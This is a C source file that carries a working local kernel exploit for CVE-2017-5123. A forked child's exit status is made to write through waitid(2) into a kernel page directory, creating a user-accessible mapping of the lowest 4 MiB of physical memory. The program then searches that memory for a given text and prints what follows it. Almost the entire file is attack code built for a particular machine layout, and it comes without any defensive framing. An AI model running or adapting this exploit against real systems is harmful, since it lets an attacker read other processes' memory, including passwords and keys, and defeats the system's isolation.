/* Reads the memory of all processes, by a mistake of the kernel: waitid(2) writes what became of a
   child wherever it is told to, the kernel's own memory included (CVE-2017-5123).

   Made for this machine: its kernel sees all of memory from BASE on, in pages of 4 MiB, and each
   new process gets a copy of the upper quarter of one page directory, whose address never changes.
   One word written there is enough: an entry for the lowest 4 MiB that says that programs may use
   them. The words before it belong to memory that this machine does not have. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <unistd.h>

#define BASE 0xc0000000U
#define DIRECTORY (BASE + 0x2000)
#define LAST 1023
#define WINDOW ((const char *)0xffc00000)
#define SIZE 0x400000

/* Present, writable, for programs, and 4 MiB large, beginning at 0. */
#define ENTRY 0x87

/* Where the word with a child's exit status stands in what waitid(2) writes. */
#define STATUS 20

static int is_plain(char c) { return c > ' ' && c < 127; }

static void print_behind(const char *found, int length) {
  int end = length;
  while (end < 60 && is_plain(found[end])) {
    end++;
  }
  if (end > length) {
    printf("%.*s\n", end, found);
  }
}

static void search(const char *wanted) {
  int length = strlen(wanted), at;
  for (at = 0; at < SIZE - 64; at++) {
    if ((at & 3) == 0 && *(const int *)(WINDOW + at) == 0) {
      at += 3;
    } else if (WINDOW[at] == *wanted && memcmp(WINDOW + at, wanted, length) == 0) {
      print_behind(WINDOW + at, length);
    }
  }
}

int main(int count, char **arguments) {
  pid_t child;
  if (count != 2) {
    fprintf(stderr, "Usage: reach TEXT\n");
    return 2;
  }
  child = fork();
  if (child == 0) {
    _exit(ENTRY);
  }
  if (waitid(P_PID, child, (siginfo_t *)(DIRECTORY + 4 * LAST - STATUS), WEXITED) < 0) {
    perror("reach: waitid");
    return 1;
  }
  child = fork();
  if (child == 0) {
    search(arguments[1]);
    exit(0);
  }
  waitpid(child, NULL, 0);
  return 0;
}
